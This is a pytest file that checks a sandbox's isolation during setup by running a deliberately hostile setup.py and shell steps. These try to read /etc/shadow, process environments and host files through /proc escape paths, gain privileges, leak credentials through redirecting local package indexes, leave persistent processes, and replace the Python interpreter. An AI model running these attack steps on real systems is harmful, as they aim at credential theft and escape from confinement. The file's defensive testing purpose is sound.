"""Tricks in setup, which has a network: reading the host, secrets, indexes that lead elsewhere, processes that stay."""

import json
import threading
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from core.protocols import Sandbox
from tests.sandbox.conftest import Prepared, sh

from .conftest import PRELUDE

SETUP_PY = (
    PRELUDE
    + """
import json
places = json.loads(open("places").read())
sys.stdout = open("report", "w")
for path in places:
    for way in ("", "/proc/1/root", "/proc/self/cwd/../../../.."):
        tell(read, way + path)
        tell(os.listdir, way + os.path.dirname(path))
tell(read, "/etc/shadow")
tell(lambda: dict(os.environ))
for pid in filter(str.isdigit, os.listdir("/proc")):
    tell(read, f"/proc/{pid}/environ")
    tell(read, f"/proc/{pid}/cmdline")
tell(call, "unshare", 0x10000000)
tell(call, "mount", b"none", b"/tmp", b"tmpfs", 0, None)
tell(os.setuid, 0)
with open("/proc/self/status") as status:
    print(*(line for line in status if line.startswith(("CapEff", "NoNewPrivs", "Seccomp:"))), sep="")
sys.stdout.close()
"""
)


class Index(ThreadingHTTPServer):
    """A package index on this machine that leads elsewhere, and who asked it for what."""

    def __init__(self, target: str) -> None:
        super().__init__(("127.0.0.1", 0), Answering)
        self.target = target
        self.asked: list[tuple[str, str]] = []

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


class Answering(BaseHTTPRequestHandler):
    server: Index

    def do_GET(self) -> None:
        self.server.asked.append((self.path, self.headers.get("Authorization", "")))
        self.send_response(302 if self.server.target else 404)
        if self.server.target:
            self.send_header("Location", self.server.target)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *_: Any) -> None:
        """Nothing on the test's output."""


@contextmanager
def serving(target: str = "") -> Iterator[Index]:
    with Index(target) as index:
        thread = threading.Thread(target=index.serve_forever)
        thread.start()
        try:
            yield index
        finally:
            index.shutdown()
            thread.join()


ASK = """python -c 'import urllib.request as u; u.urlopen("URL", timeout=5)' 2>/dev/null; true"""
PIP = "python -m pip download --retries 0 --timeout 5 --no-deps -i URL/simple evil-package >> said 2>&1; true"
BEAT = """setsid sh -c 'trap "" HUP TERM; while :; do date >> beats; sleep 0.02; done' >/dev/null 2>&1 & sleep 0.2"""
POISON = "for d in ~ /tmp /dev/shm /out /usr /etc /perfsmith/tool /; do touch $d/POISON 2>/dev/null; done; true"
REPLACE = "cd $VIRTUAL_ENV/bin; rm python*; for name in python python3; do cp $OLDPWD/evil $name; chmod +x $name; done"


@dataclass(frozen=True, kw_only=True)
class Attacked:
    """What came of an environment whose setup did all it could."""

    sandbox: Sandbox
    host: Path
    """A folder of the host that setup tried to reach."""
    leading_to_files: Index
    leading_elsewhere: Index
    elsewhere: Index

    @property
    def report(self) -> str:
        """What its setup.py found out."""
        return sh(self.sandbox, "cat report").stdout.text


@pytest.fixture(scope="module")
def attacked(prepared: Prepared, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attacked]:
    """One environment for all: making one takes seconds."""
    host = tmp_path_factory.mktemp("host")
    private = host / "evil_package-1.0-py3-none-any.whl"
    private.write_text("private to the host")
    (host / ".netrc").write_text("machine 127.0.0.1 login user password sk-a-secret\n")
    script = f'#!/bin/sh\ntouch {host}/executed\nexec /usr/bin/python3 "$@"\n'
    with ExitStack() as stack:
        files = stack.enter_context(serving(private.as_uri()))
        elsewhere = stack.enter_context(serving())
        leading = stack.enter_context(serving(f"{elsewhere.url}/stolen"))
        tree = host / "tree"
        tree.mkdir()
        contents = {"setup.py": SETUP_PY, "places": json.dumps([str(private)]), "evil": script}
        for name, text in contents.items():
            (tree / name).write_text(text)
        setup = ["python setup.py", *(PIP.replace("URL", index.url) for index in (files, leading))]
        setup += [ASK.replace("URL", f"{elsewhere.url}/setup"), POISON, BEAT, REPLACE]
        with secrets_set(host):
            environment = prepared.provider.prepare(tree, setup, timeout_seconds=120)
        sandbox = stack.enter_context(prepared.provider.open(environment, {}))
        yield Attacked(
            sandbox=sandbox, host=host, leading_to_files=files, leading_elsewhere=leading, elsewhere=elsewhere
        )


@contextmanager
def secrets_set(home: Path) -> Iterator[None]:
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("HOME", str(home))
        patch.setenv("OPENAI_API_KEY", "sk-a-secret")
        for name in ("PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL", "HTTPS_PROXY", "http_proxy"):
            patch.setenv(name, "http://user:sk-a-secret@127.0.0.1:1/simple")
        yield


def test_a_setup_py_finds_no_file_secret_or_process_of_the_host(attacked: Attacked) -> None:
    assert "CapEff" in attacked.report
    assert "private to the host" not in attacked.report
    assert "sk-a-secret" not in attacked.report
    assert "-m pytest" not in attacked.report


def test_a_setup_py_has_no_rights_that_other_code_has_not(attacked: Attacked) -> None:
    wanted = ("CapEff", "NoNewPrivs", "Seccomp:")
    facts = dict(line.split() for line in attacked.report.splitlines() if line.startswith(wanted))
    assert facts == {"CapEff:": "0" * 16, "NoNewPrivs:": "1", "Seccomp:": "2"}
    assert attacked.report.count("EPERM") >= 2


def test_an_index_that_leads_to_files_of_the_host_gets_none(attacked: Attacked) -> None:
    assert attacked.leading_to_files.asked
    assert "private to the host" not in sh(attacked.sandbox, "cat said *.whl").stdout.text


def test_an_index_that_leads_to_another_host_is_not_told_the_user_s_password(attacked: Attacked) -> None:
    """Neither from the user's .netrc nor from pip's variables: setup has none of them."""
    assert [path for path, _ in attacked.elsewhere.asked if path == "/stolen"]
    asked = [*attacked.leading_elsewhere.asked, *attacked.elsewhere.asked]
    assert {authorization for _, authorization in asked} == {""}


def test_what_setup_starts_ends_with_it(attacked: Attacked) -> None:
    before, after = map(int, sh(attacked.sandbox, "wc -l < beats; sleep 0.3; wc -l < beats").stdout.text.split())
    assert 0 < before == after


def test_setup_leaves_nothing_but_the_checkout_and_the_environment(attacked: Attacked) -> None:
    found = sh(attacked.sandbox, "ls -A ~ /tmp /dev/shm /out /usr /etc /perfsmith/tool / | grep -c POISON")
    assert found.stdout.data == b"0\n"


def test_samples_have_no_network_although_setup_had(attacked: Attacked) -> None:
    ask = ASK.replace("URL", f"{attacked.elsewhere.url}/sample").replace("python", "/usr/bin/python3")
    sh(attacked.sandbox, ask)
    paths = [path for path, _ in attacked.elsewhere.asked]
    assert ("/setup" in paths, "/sample" in paths) == (True, False)


def test_an_interpreter_that_setup_replaces_is_not_run_on_the_host(attacked: Attacked) -> None:
    sh(attacked.sandbox, "python -c 'print(1)'")
    assert not (attacked.host / "executed").exists()
